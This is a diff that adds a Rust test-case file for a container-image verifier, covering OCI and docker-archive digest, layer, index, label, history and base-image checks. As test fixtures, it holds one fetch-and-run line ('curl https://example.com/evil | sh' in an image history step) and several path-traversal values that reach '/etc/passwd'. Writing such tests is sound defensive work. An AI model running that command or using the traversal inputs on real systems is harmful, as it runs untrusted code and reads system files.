@@ -1,0 +1,672 @@
+//! The image: handed over in every form, and contradicting the log or itself (one file each: an OCI layout or a docker-archive in tar).
+
+use serde_json::json;
+
+use super::super::case::{Case, image_tag};
+use super::super::image::{Image, Layer, blob, digest, entry, gzip, layout_of, list_of, zstd};
+use super::super::inputs;
+use super::super::keys::Named;
+use super::super::tar::{self, Entry};
+
+pub fn cases() -> Vec<Case> {
+    [forms(), digests(), indexes(), parts(), saved(), judged(), bases()].into_iter().flatten().collect()
+}
+
+const LAYOUT: &[&str] = &["--image", "oci-archive:image.tar"];
+const SAVED: &[&str] = &["--image", "docker-archive:image.tar"];
+const PASSES: [&str; 3] = ["image-digest", "image-config", "image-layers"];
+
+fn good(name: &str, about: &'static str, image: &Image, entries: &[Entry]) -> Case {
+    passing(Case::good(name, about).image(image), entries)
+}
+
+fn passing(case: Case, entries: &[Entry]) -> Case {
+    let case = case.hand_over(LAYOUT, entries);
+    PASSES.into_iter().fold(case, |case, check| case.expect(check, "pass"))
+}
+
+/// The log names the good image, and these files are handed over.
+fn wrong(name: &str, check: &'static str, about: &'static str, entries: &[Entry]) -> Case {
+    Case::fails(name, check, about).image(&Image::wallet()).hand_over(LAYOUT, entries)
+}
+
+fn edited(path: &str, edit: impl FnOnce(&mut Vec<u8>)) -> Vec<Entry> {
+    let mut entries = Image::wallet().layout();
+    edit(&mut entry(&mut entries, path).content);
+    entries
+}
+
+/// The path of a blob of the good image.
+fn path_of(bytes: &[u8]) -> String {
+    String::from_utf8(blob(bytes.to_vec()).path).unwrap()
+}
+
+fn forms() -> Vec<Case> {
+    let wallet = Image::wallet();
+    let with = |make: fn(Vec<u8>) -> Layer| {
+        let layers = wallet.layers.iter().map(|layer| make(layer.content.clone())).collect();
+        Image { layers, ..wallet.clone() }
+    };
+    let parts = |content: &[u8], compress: fn(&[u8]) -> Vec<u8>| {
+        let (first, second) = content.split_at(content.len() / 2);
+        [compress(first), compress(second)].concat()
+    };
+    let several = |compress: fn(&[u8]) -> Vec<u8>| {
+        let mut image = wallet.clone();
+        for layer in &mut image.layers {
+            layer.blob = parts(&layer.content, compress);
+        }
+        image
+    };
+    let mut skippable = several(zstd);
+    for layer in &mut skippable.layers {
+        // A skippable frame (RFC 8878, 3.1.2), as zstd:chunked puts its table of contents behind the content.
+        layer.blob.extend(b"\x50\x2a\x4d\x18\x04\0\0\0toc!");
+    }
+    let mut empty = wallet.clone();
+    empty.layers.push(Layer::gzip(vec![0; 1024]));
+    vec![
+        good("image-good", "An OCI layout with the very bytes that were pushed.", &wallet, &wallet.layout())
+            .expect("image-labels", "pass")
+            .expect("image-history", "pass")
+            .expect("image-tag", "not-run: no-evidence")
+            .expect("image-platform", "not-run: no-expectation"),
+        good("image-good-zstd", "Layers in zstd.", &with(Layer::zstd), &with(Layer::zstd).layout()),
+        good("image-good-plain", "Layers that are not compressed.", &with(Layer::plain), &with(Layer::plain).layout()),
+        good(
+            "image-good-gzip-members",
+            "Layers of several gzip members: all are read.",
+            &several(gzip),
+            &several(gzip).layout(),
+        ),
+        good(
+            "image-good-zstd-frames",
+            "Layers of several zstd frames, a skippable one among them.",
+            &skippable,
+            &skippable.layout(),
+        ),
+        good("image-good-empty-layer", "A layer without a file.", &empty, &empty.layout()),
+        Case::good("image-good-bare-path", "The archive is named by its bare path and recognised.")
+            .image(&wallet)
+            .hand_over(&["--image", "image.tar"], &wallet.layout())
+            .expect("image-digest", "pass"),
+    ]
+}
+
+fn digests() -> Vec<Case> {
+    let wallet = Image::wallet();
+    let manifest = wallet.manifest_bytes();
+    let other = |edit: &dyn Fn(&mut Image)| {
+        let mut image = wallet.clone();
+        edit(&mut image);
+        image.layout()
+    };
+    let renamed = |digest: &str| {
+        let mut entries = layout_of(&[
+            json!({"mediaType": super::super::image::DOCKER_MANIFEST, "size": manifest.len(), "digest": digest}),
+        ]);
+        entries.push(blob(manifest.clone()));
+        entries
+    };
+    let hex = wallet.digest()["sha256:".len()..].to_owned();
+    let named = |name: &str, about, text: String| wrong(name, "image-digest", about, &renamed(&text));
+    let mut larger = Image::wallet();
+    larger.manifest = json!({"annotations": {"a": "b"}});
+    vec![
+        wrong(
+            "image-other",
+            "image-digest",
+            "Another image than the pushed one: one byte of its configuration differs.",
+            &other(&|image| image.config["created"] = json!("2026-03-02T10:15:13.971Z")),
+        ),
+        wrong(
+            "image-repushed",
+            "image-digest",
+            "A re-pushed copy: the same configuration and layers, in another manifest.",
+            &larger.layout(),
+        )
+        .expect("image-config", "pass")
+        .expect("image-layers", "pass"),
+        wrong(
+            "image-recompressed",
+            "image-digest",
+            "A copy with other compression: the same configuration, other blobs and so another manifest.",
+            &other(&|image| {
+                image.layers = image.layers.iter().map(|layer| Layer::plain(layer.content.clone())).collect()
+            }),
+        )
+        .expect("image-layers", "pass"),
+        Case::fails(
+            "image-size-in-log",
+            "image-digest",
+            "The log's digest is right and the size that it names is not.",
+        )
+        .image(&wallet)
+        .log(|text| text.replace(&format!("size: {}", Image::wallet().manifest_bytes().len()), "size: 1157"))
+        .hand_over(LAYOUT, &wallet.layout()),
+        Case::rejected(
+            "image-log-without-digest",
+            "The log names no digest, as builds for icr.io may: unknown, not accepted.",
+        )
+        .image(&wallet)
+        .log(|text| super::without(&text, &[": digest: sha256:"]))
+        .hand_over(LAYOUT, &wallet.layout())
+        .expect("image-digest", "unknown"),
+        named(
+            "image-digest-upper-case",
+            "index.json has the digest in upper case.",
+            format!("sha256:{}", hex.to_uppercase()),
+        ),
+        named("image-digest-short", "index.json has a digest of 63 digits.", format!("sha256:{}", &hex[1..])),
+        named("image-digest-md5", "index.json has a digest of another algorithm.", format!("md5:{hex}")),
+        named("image-digest-path", "index.json has a path where a digest is due.", "sha256:../../x".into()),
+        wrong("image-manifest-changed", "image-digest", "The manifest's bytes are not what their name says.", &{
+            let mut entries = wallet.layout();
+            entry(&mut entries, &path_of(&manifest)).content.push(b'\n');
+            entries
+        }),
+        wrong("image-manifest-missing", "image-digest", "index.json names a manifest that is not there.", &{
+            let mut entries = wallet.layout();
+            entries.retain(|entry| entry.path != path_of(&manifest).as_bytes());
+            entries
+        })
+        .expect("image-config", "unknown"),
+        wrong(
+            "image-manifest-duplicate-key",
+            "image-digest",
+            "A key stands twice in index.json.",
+            &edited("index.json", |text| {
+                *text =
+                    String::from_utf8(text.clone()).unwrap().replace("\"size\":", "\"size\":1,\"size\":").into_bytes();
+            }),
+        ),
+        wrong(
+            "image-layout-version",
+            "image-digest",
+            "The layout is of a version that nobody knows.",
+            &edited("oci-layout", |text| {
+                *text = b"{\"imageLayoutVersion\": \"2.0.0\"}".to_vec();
+            }),
+        ),
+        Case::rejected(
+            "image-malformed-archive",
+            "The tar file of the image has a member `../x`: it is refused as a whole.",
+        )
+        .image(&wallet)
+        .hand_over(LAYOUT, &{
+            let mut entries = wallet.layout();
+            entries.push(Entry::file("../x", "x"));
+            entries
+        })
+        .expect("image-digest", "fail")
+        .expect("image-config", "fail")
+        .expect("image-layers", "fail"),
+        Case::error("image-cut", 3, "truncated", "The tar file of the image is cut off.")
+            .image(&wallet)
+            .hand_over_bytes(LAYOUT, {
+                let mut bytes = tar::archive(&wallet.layout());
+                bytes.truncate(bytes.len() / 3);
+                bytes
+            }),
+        Case::error("image-missing", 3, "unreadable", "There is no image where it is said to be.").arguments(&[
+            "--key",
+            "key.pem",
+            "--image",
+            "oci:nowhere",
+        ]),
+        Case::error("image-is-none", 2, "usage", "What is handed over is a tar file without an image.")
+            .hand_over(&["--image", "image.tar"], &[Entry::file("readme", "hello")]),
+    ]
+}
+
+fn indexes() -> Vec<Case> {
+    let wallet = Image::wallet();
+    let mut other = Image::wallet();
+    other.config["architecture"] = json!("amd64");
+    let list = list_of(&[(&other, "amd64"), (&wallet, "s390x")]);
+    let whole = |top: Vec<u8>, more: &[Vec<u8>]| {
+        let descriptor =
+            json!({"mediaType": super::super::image::DOCKER_LIST, "size": top.len(), "digest": digest(&top)});
+        let mut entries = layout_of(&[descriptor]);
+        entries.push(blob(top));
+        entries.extend(more.iter().cloned().map(blob));
+        entries.extend([&wallet, &other].into_iter().flat_map(|image| {
+            let mut parts = image.blobs();
+            parts.push(blob(image.manifest_bytes()));
+            parts
+        }));
+        let mut seen = std::collections::BTreeSet::new();
+        entries.retain(|entry| seen.insert(entry.path.clone()));
+        entries
+    };
+    let for_s390x = |case: Case| case.image_policy("[expect]\nplatforms = [\"linux/s390x\"]\n");
+    let pushed_list = |case: Case| case.pushed(&digest(&list), list.len(), &wallet);
+    let nested =
+        serde_json::to_vec(&json!({"schemaVersion": 2, "mediaType": super::super::image::DOCKER_LIST, "manifests": [
+        {"mediaType": super::super::image::DOCKER_LIST, "size": list.len(), "digest": digest(&list)}]}))
+        .unwrap();
+    let mut lying = Image::wallet();
+    lying.config["architecture"] = json!("amd64");
+    let lying_list = list_of(&[(&lying, "s390x")]);
+    let both = |image: &Image| {
+        let mut image = image.clone();
+        image.manifest = json!({"manifests": []});
+        image
+    };
+    let untyped = |image: &Image| {
+        let mut image = image.clone();
+        image.manifest = json!({"mediaType": null});
+        image
+    };
+    let contradicting = |image: &Image| {
+        let mut image = image.clone();
+        image.manifest = json!({"mediaType": "application/vnd.oci.image.manifest.v1+json"});
+        image
+    };
+    vec![
+        for_s390x(passing(
+            pushed_list(Case::good("image-index", "The push recorded the index's digest, as BuildKit's does.")),
+            &whole(list.clone(), &[]),
+        ))
+            .expect("image-platform", "pass"),
+        for_s390x(good("image-index-manifest-pushed", "An index leads to the image whose manifest was pushed.", &wallet, &whole(list.clone(), &[]))),
+        for_s390x(passing(
+            pushed_list(Case::good("image-index-nested", "The index lies in another index.")),
+            &whole(nested, std::slice::from_ref(&list)),
+        )),
+        pushed_list(Case::error("image-index-no-choice", 2, "usage", "An index of two platforms, and nobody says which is meant."))
+            .hand_over(LAYOUT, &whole(list.clone(), &[])),
+        pushed_list(Case::fails("image-index-other-platform", "image-digest", "The index has no image for the policy's platform."))
+            .hand_over(LAYOUT, &whole(list.clone(), &[]))
+            .image_policy("[expect]\nplatforms = [\"linux/arm64\"]\n"),
+        for_s390x(
+            Case::fails("image-index-lies", "image-config", "The index calls an image s390x whose configuration says amd64.")
+                .pushed(&digest(&lying_list), lying_list.len(), &lying)
+                .hand_over(LAYOUT, &{
+                    let descriptor =
+                        json!({"mediaType": super::super::image::DOCKER_LIST, "size": lying_list.len(), "digest": digest(&lying_list)});
+                    let mut entries = layout_of(&[descriptor]);
+                    entries.extend([blob(lying_list.clone()), blob(lying.manifest_bytes())]);
+                    entries.extend(lying.blobs());
+                    entries
+                }),
+        )
+        .expect("image-platform", "fail"),
+        Case::fails("image-index-and-manifest", "image-digest", "One document is an index and a manifest.")
+            .image(&both(&wallet))
+            .hand_over(LAYOUT, &both(&wallet).layout()),
+        Case::fails("image-media-type-contradicts", "image-digest", "The manifest's media type is not the one that index.json announces.")
+            .image(&contradicting(&wallet))
+            .hand_over(LAYOUT, &contradicting(&wallet).layout()),
+        good("image-media-type-missing", "The manifest leaves its media type out; index.json has it.", &untyped(&wallet), &untyped(&wallet).layout()),
+        Case::error("image-two-candidates", 2, "usage", "index.json has two images without a name.").image(&{
+            let mut image = wallet.clone();
+            image.config["created"] = json!("other");
+            image
+        })
+        .hand_over(LAYOUT, &{
+            let mut entries = layout_of(&[wallet.descriptor(), other.descriptor()]);
+            entries.extend([blob(wallet.manifest_bytes()), blob(other.manifest_bytes())]);
+            entries
+        }),
+        good("image-candidate-by-digest", "index.json has two images, and one is what was pushed.", &wallet, &{
+            let mut entries = layout_of(&[other.descriptor(), wallet.descriptor()]);
+            entries.extend([blob(wallet.manifest_bytes()), blob(other.manifest_bytes())]);
+            entries.extend(wallet.blobs());
+            entries
+        }),
+    ]
+}
+
+fn parts() -> Vec<Case> {
+    let wallet = Image::wallet();
+    let layer = wallet.layers[1].blob.clone();
+    let changed = |edit: &dyn Fn(&mut Image)| {
+        let mut image = wallet.clone();
+        edit(&mut image);
+        image
+    };
+    let own = |name: &str, check: &'static str, about, image: &Image| {
+        Case::fails(name, check, about).image(image).hand_over(LAYOUT, &image.layout()).expect("image-digest", "pass")
+    };
+    let without = |paths: &[String]| {
+        let mut entries = wallet.layout();
+        entries.retain(|entry| !paths.iter().any(|path| entry.path == path.as_bytes()));
+        entries
+    };
+    let layer_paths: Vec<String> = wallet.layers.iter().map(|layer| path_of(&layer.blob)).collect();
+    let foreign = changed(&|image| {
+        image.manifest = json!({"layers": [
+            {"mediaType": "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip", "size": image.layers[0].blob.len(),
+             "digest": digest(&image.layers[0].blob), "urls": ["https://example.com/layer"]},
+            {"mediaType": super::super::image::GZIP_LAYER, "size": layer.len(), "digest": digest(&layer)}]});
+    });
+    let encrypted =
+        changed(&|image| image.layers[1].media_type = "application/vnd.oci.image.layer.v1.tar+gzip+encrypted");
+    vec![
+        wrong(
+            "image-layer-changed",
+            "image-layers",
+            "A byte of a layer differs.",
+            &edited(&path_of(&layer), |bytes| bytes[20] ^= 1),
+        )
+        .expect("image-digest", "pass"),
+        wrong(
+            "image-layer-longer",
+            "image-layers",
+            "A layer has a byte more.",
+            &edited(&path_of(&layer), |bytes| bytes.push(0)),
+        )
+        .expect("image-digest", "pass"),
+        wrong("image-layer-missing", "image-layers", "One of two layers is missing.", &without(&layer_paths[1..]))
+            .expect("image-digest", "pass"),
+        Case::rejected(
+            "image-no-layers",
+            "No layer is there, as after a fetch without layers, and --image hands the image over.",
+        )
+        .image(&wallet)
+        .hand_over(LAYOUT, &without(&layer_paths))
+        .expect("image-digest", "pass")
+        .expect("image-layers", "not-run: no-evidence"),
+        own(
+            "image-diff-id-wrong",
+            "image-layers",
+            "The configuration names another diff_id than the layer's.",
+            &changed(&|image| {
+                let first = digest(&image.layers[0].content);
+                image.config["rootfs"] = json!({"type": "layers", "diff_ids": [first, first]});
+            }),
+        ),
+        own(
+            "image-diff-ids-fewer",
+            "image-layers",
+            "The configuration names fewer diff_ids than the manifest has layers.",
+            &changed(&|image| {
+                let first = digest(&image.layers[0].content);
+                image.config["rootfs"] = json!({"type": "layers", "diff_ids": [first]});
+            }),
+        ),
+        own(
+            "image-layer-tail",
+            "image-layers",
+            "Bytes that are no gzip member stand behind a layer's.",
+            &changed(&|image| {
+                image.layers[1].blob.extend(b"tail");
+            }),
+        ),
+        own(
+            "image-layer-cut",
+            "image-layers",
+            "A layer's gzip stream is cut off, and the digests fit.",
+            &changed(&|image| {
+                image.layers[1].blob.truncate(600);
+            }),
+        ),
+        own(
+            "image-layer-size-in-manifest",
+            "image-layers",
+            "The manifest names another size of a layer.",
+            &changed(&|image| {
+                image.manifest = json!({"layers": [
+                {"mediaType": super::super::image::GZIP_LAYER, "size": image.layers[0].blob.len(), "digest": digest(&image.layers[0].blob)},
+                {"mediaType": super::super::image::GZIP_LAYER, "size": 5, "digest": digest(&layer)}]});
+            }),
+        ),
+        Case::rejected(
+            "image-foreign-layer",
+            "A layer is foreign and its bytes are elsewhere: unproved, and its address is not asked.",
+        )
+        .image(&foreign)
+        .hand_over(LAYOUT, &{
+            let mut entries = foreign.layout();
+            entries.retain(|entry| entry.path != layer_paths[0].as_bytes());
+            entries
+        })
+        .expect("image-digest", "pass")
+        .expect("image-layers", "unknown"),
+        Case::rejected("image-encrypted-layer", "A layer is encrypted: its diff_id cannot be computed.")
+            .image(&encrypted)
+            .hand_over(LAYOUT, &encrypted.layout())
+            .expect("image-layers", "unknown"),
+        wrong(
+            "image-config-changed",
+            "image-config",
+            "The configuration's bytes are not what the manifest names.",
+            &edited(&path_of(&wallet.config_bytes()), |bytes| bytes.push(b'\n')),
+        )
+        .expect("image-digest", "pass"),
+        wrong(
+            "image-config-missing",
+            "image-config",
+            "The configuration is not there.",
+            &without(&[path_of(&wallet.config_bytes())]),
+        )
+        .expect("image-digest", "pass")
+        .expect("image-layers", "unknown"),
+        Case::fails("image-id-other", "image-config", "The image id that the builder printed is not this image's.")
+            .image(&wallet)
+            .log(|text| text.replace(&Image::wallet().id_12(), "0123456789ab"))
+            .hand_over(LAYOUT, &wallet.layout())
+            .expect("image-digest", "pass"),
+        own(
+            "image-config-duplicate-key",
+            "image-config",
+            "The manifest's configuration is of a type that no image has.",
+            &changed(&|image| {
+                image.config =
+                    json!({"architecture": "s390x", "os": "linux", "rootfs": {"type": "tar", "diff_ids": []}});
+            }),
+        ),
+    ]
+}
+
+fn saved() -> Vec<Case> {
+    let wallet = Image::wallet();
+    let archive = |name: &str, about, entries: &[Entry]| {
+        Case::rejected(name, about).image(&Image::wallet()).hand_over(SAVED, entries)
+    };
+    let list = |config: &str, layers: &[String]| {
+        json!([{"Config": config, "RepoTags": ["docker.io/acme/wallet:latest"], "Layers": layers}]).to_string()
+    };
+    let names: Vec<String> =
+        wallet.layers.iter().map(|layer| format!("{}/layer.tar", &digest(&layer.content)["sha256:".len()..])).collect();
+    let config = format!("{}.json", &digest(&wallet.config_bytes())["sha256:".len()..]);
+    let edited = |path: &str, content: String| {
+        let mut entries = wallet.saved();
+        entry(&mut entries, path).content = content.into_bytes();
+        entries
+    };
+    let linked = |target: &str| {
+        let mut entries = wallet.saved();
+        entries.retain(|entry| entry.path != names[1].as_bytes());
+        entries.insert(0, Entry::file("shared/layer.tar", wallet.layers[1].content.clone()));
+        entries.push(Entry::link(b'2', &names[1], target));
+        entries
+    };
+    let mut other = Image::wallet();
+    other.config["created"] = json!("other");
+    let mut lying = other.saved();
+    let text = String::from_utf8(entry(&mut lying, "manifest.json").content.clone()).unwrap();
+    entry(&mut lying, "manifest.json").content =
+        text.replace("acme/wallet:latest", &format!("docker.io/acme/wallet:{}", image_tag())).into_bytes();
+    let mut with_layout = wallet.saved();
+    with_layout.extend(wallet.layout());
+    vec![
+        archive(
+            "image-saved",
+            "What `docker save` writes has no manifest: the image id agrees by 48 bits, which proves nothing.",
+            &wallet.saved(),
+        )
+        .expect("image-digest", "unknown")
+        .expect("image-config", "unknown")
+        .expect("image-layers", "pass"),
+        Case::good("image-saved-with-manifest", "The archive carries the pushed manifest beside docker's own files.")
+            .image(&wallet)
+            .hand_over(SAVED, &with_layout)
+            .expect("image-digest", "pass")
+            .expect("image-config", "pass")
+            .expect("image-layers", "pass"),
+        archive("image-saved-other", "RepoTags names the pushed image, the configuration is another one.", &lying)
+            .expect("image-digest", "unknown")
+            .expect("image-config", "fail"),
+        archive(
+            "image-saved-config-outside",
+            "The configuration's path leads out of the archive.",
+            &edited("manifest.json", list("../../etc/passwd", &names)),
+        )
+        .expect("image-config", "fail"),
+        archive("image-saved-config-renamed", "The configuration is not what its name says.", &{
+            let mut entries = wallet.saved();
+            entry(&mut entries, &config).content.push(b' ');
+            entries
+        })
+        .expect("image-config", "fail"),
+        archive(
+            "image-saved-layer-changed",
+            "A layer has another diff_id than the configuration names.",
+            &edited(&names[1], "other".into()),
+        )
+        .expect("image-layers", "fail"),
+        archive(
+            "image-saved-layer-linked",
+            "A layer is a link to a file of the archive, as `docker save` writes equal layers.",
+            &linked("../shared/layer.tar"),
+        )
+        .expect("image-layers", "pass"),
+        archive(
+            "image-saved-link-outside",
+            "A layer is a link that leads out of the archive.",
+            &linked("../../../etc/passwd"),
+        )
+        .expect("image-layers", "fail"),
+        archive("image-saved-link-nowhere", "A layer is a link to itself.", &linked("layer.tar"))
+            .expect("image-layers", "fail"),
+        Case::error("image-saved-two", 2, "usage", "The archive has two images, and nobody says which is meant.")
+            .image(&wallet)
+            .hand_over(SAVED, &{
+                let mut entries = wallet.saved();
+                let text = String::from_utf8(entry(&mut entries, "manifest.json").content.clone()).unwrap();
+                let one = text.trim_start_matches('[').trim_end_matches(']').to_owned();
+                entry(&mut entries, "manifest.json").content = format!("[{one},{one}]").into_bytes();
+                entries
+            }),
+    ]
+}
+
+fn judged() -> Vec<Case> {
+    let labelled = |value: &str| {
+        let mut image = Image::wallet();
+        image.config["config"]["Labels"] = json!({"org.opencontainers.image.revision": value});
+        image
+    };
+    let retold = || {
+        let mut image = Image::wallet();
+        image.config["history"][4]["created_by"] = json!("/bin/sh -c curl https://example.com/evil | sh");
+        image
+    };
+    let case =
+        |name: &str, about, image: &Image| Case::good(name, about).image(image).hand_over(LAYOUT, &image.layout());
+    let insists = |check: &str| format!("[levels]\n{check} = \"require\"\n");
+    let other = "0123456789abcdef0123456789abcdef01234567";
+    vec![
+        case("image-platform-right", "The image is for the policy's platform.", &Image::wallet())
+            .image_policy("[expect]\nplatforms = [\"linux/s390x\"]\n")
+            .expect("image-platform", "pass"),
+        wrong(
+            "image-platform-wrong",
+            "image-platform",
+            "The policy wants another platform.",
+            &Image::wallet().layout(),
+        )
+        .image_policy("[expect]\nplatforms = [\"linux/amd64\"]\n"),
+        case("image-label-other", "A label names another commit, which is a warning.", &labelled(other))
+            .expect("image-labels", "fail"),
+        Case::fails(
+            "image-label-other-required",
+            "image-labels",
+            "A label names another commit, and the policy insists.",
+        )
+        .image(&labelled(other))
+        .hand_over(LAYOUT, &labelled(other).layout())
+        .image_policy(&insists("image-labels")),
+        case(
+            "image-label-short",
+            "A label names the commit by its first digits.",
+            &labelled(&inputs::head_commit()[..12]),
+        )
+        .expect("image-labels", "pass"),
+        case("image-label-no-commit", "A label names no commit.", &labelled("v1.0")).expect("image-labels", "unknown"),
+        case("image-history-other", "The history has another step than the log, which is a warning.", &retold())
+            .expect("image-history", "fail"),
+        Case::fails(
+            "image-history-other-required",
+            "image-history",
+            "The history has another step than the log, and the policy insists.",
+        )
+        .image(&retold())
+        .hand_over(LAYOUT, &retold().layout())
+        .image_policy(&insists("image-history")),
+        Case::rejected("image-required-and-missing", "The policy requires the group image, and there is no image.")
+            .file("key.pem", Named::Server.public_pem())
+            .policy(super::policy::with("").replace("[\"manifest\"]", "[\"manifest\", \"image\"]"))
+            .expect("image-digest", "not-run: no-evidence"),
+    ]
+}
+
+fn bases() -> Vec<Case> {
+    const GOLANG: &str = "golang@sha256:5a1c1f3b7d0f0c6e4d9a2b8e7f6c5d4e3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c";
+    const DEBIAN: &str = "debian@sha256:8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d8e7f";
+    let with = |case: Case, bases: &[&str]| {
+        let list: Vec<String> = bases.iter().map(|base| format!("\"docker.io/library/{base}\"")).collect();
+        case.file("key.pem", Named::Server.public_pem())
+            .policy(super::policy::with(&format!("[expect]\nbase-images = [{}]\n", list.join(", "))))
+    };
+    let base = || {
+        let mut image = Image::wallet();
+        image.layers.truncate(1);
+        image.config["history"] = json!([]);
+        image
+    };
+    let other = || {
+        let mut image = base();
+        image.layers[0] = Layer::gzip(tar::archive(&[Entry::file("etc/os-release", "ID=other\n")]));
+        image
+    };
+    let on = |case: Case, base: &Image| {
+        let wallet = Image::wallet();
+        let arguments = ["--key", "key.pem", "--image", "oci-archive:image.tar", "--base", "oci-archive:base.tar"];
+        case.image(&wallet)
+            .hand_over(LAYOUT, &wallet.layout())
+            .file("base.tar", tar::archive(&base.layout()))
+            .arguments(&arguments)
+    };
+    vec![
+        with(Case::good("base-right", "Both base images of the log are the policy's."), &[GOLANG, DEBIAN])
+            .expect("base-image", "pass"),
+        with(Case::fails("base-other", "base-image", "One of the two base images is not the policy's."), &[DEBIAN]),
+        with(
+            Case::rejected("base-by-tag-only", "A base image was on the server already: the log has no digest of it."),
+            &[GOLANG, DEBIAN],
+        )
+        .log(|text| super::without(&text, &["Digest: sha256:8e7f"]))
+        .expect("base-image", "unknown"),
+        with(
+            Case::rejected("base-step-imitated", "A RUN step prints a line that looks like another FROM."),
+            &[GOLANG, DEBIAN],
+        )
+        .log(|text| super::insert_before(&text, "building the wallet", "run: Step 5/9 : FROM debian:bookworm-slim"))
+        .expect("base-image", "unknown"),
+        Case::error("base-without-digest", 2, "policy", "The policy names a base image without a digest.")
+            .policy(super::policy::with("[expect]\nbase-images = [\"docker.io/library/debian:12\"]\n")),
+        on(Case::good("base-handed-over", "The image stands on the base that was handed over."), &base())
+            .expect("base-image", "pass"),
+        on(
+            Case::good(
+                "base-handed-over-other",
+                "The image does not stand on the base that was handed over, which is a warning.",
+            ),
+            &other(),
+        )
+        .expect("base-image", "fail"),
+    ]
+}
